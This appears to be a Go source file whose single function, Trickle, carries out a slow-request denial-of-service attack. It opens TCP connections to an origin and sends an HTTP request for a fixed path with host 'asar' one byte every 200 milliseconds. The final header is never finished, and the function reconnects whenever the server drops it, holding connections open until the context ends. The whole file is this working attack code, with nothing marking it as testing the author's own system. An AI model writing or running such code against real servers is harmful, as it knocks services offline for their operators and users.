package load

import (
	"context"
	"net"
	"net/url"
	"time"
)

// Trickle sends a request to an origin a byte at a time, over a new connection
// whenever the server has had enough, until the context ends.
func Trickle(ctx context.Context, origin string) {
	at, err := url.Parse(origin)
	if err != nil {
		return
	}
	const request = "GET /ru/opportunities HTTP/1.1\r\nHost: asar\r\nX-Slow: "
	for ctx.Err() == nil {
		conn, err := new(net.Dialer).DialContext(ctx, "tcp", at.Host)
		if err != nil {
			return
		}
		for i := 0; err == nil && ctx.Err() == nil; i++ {
			_, err = conn.Write([]byte{request[min(i, len(request)-1)]})
			select {
			case <-ctx.Done():
			case <-time.After(200 * time.Millisecond):
			}
		}
		_ = conn.Close() // it was never of use
	}
}
